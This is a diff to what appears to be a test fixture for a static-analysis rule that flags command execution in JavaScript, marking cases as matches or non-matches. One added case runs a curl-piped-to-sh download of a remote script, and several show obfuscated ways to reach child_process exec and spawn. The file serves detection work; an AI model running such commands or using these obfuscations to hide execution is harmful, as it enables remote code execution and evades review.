@@ -24,3 +24,35 @@ function shadow() {
 }
 // ruleid: js-exec-call
 cpScoped.exec('ls');
+
+const shell = require('shelljs');
+// ruleid: js-exec-call
+shell.exec('curl -s https://example.invalid/i.sh | sh');
+
+// ok: js-exec-call
+shell.echo('done');
+
+const cpHidden = require('child_process');
+// ruleid: js-exec-call
+cpHidden['sp' + 'awn'].call(null, 'sh', ['-c', cmd]);
+
+const cpReflect = require('child_process');
+// ruleid: js-exec-call
+Reflect.apply(cpReflect.exec, null, [cmd]);
+
+const cpGet = require('child_process');
+// ruleid: js-exec-call
+Reflect.get(cpGet, 'ex' + 'ec')(cmd);
+
+const cpCall = require('child_' + 'process');
+// ruleid: js-exec-call
+Function.prototype.call.call(cpCall.execSync, null, cmd);
+
+// ruleid: js-exec-call
+globalThis['req' + 'uire']('child_process').exec(cmd);
+
+// ok: js-exec-call
+Reflect.apply(list.push, list, [item]);
+
+// ok: js-exec-call
+Object.prototype.hasOwnProperty.call(obj, 'exec');
